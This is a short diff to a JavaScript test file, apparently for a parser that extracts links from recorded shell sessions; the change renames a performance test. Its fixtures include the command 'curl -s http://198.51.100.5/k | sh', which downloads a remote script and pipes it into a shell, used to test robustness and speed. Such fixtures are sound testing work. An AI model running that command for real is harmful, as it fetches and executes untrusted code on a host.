@@ -101,7 +101,7 @@ test("words come without quotes, brackets and escapes; hostile lines are bounded
   assert.deepEqual(linksOf(hostile, ran("b", 60, { arguments: "-c curl x ".repeat(600) })), []);
 });
 
-test("thousands of sessions with one command, or with commands that begin alike, cost no more", () => {
+test("thousands of sessions with one command, or with such that begin alike, are quick", () => {
   const count = 5000;
   const same = Array.from({ length: count }, (_, at) =>
     ran(`s${at}`, at, { arguments: '-c "curl -s http://198.51.100.5/k | sh -c x y z"' }),
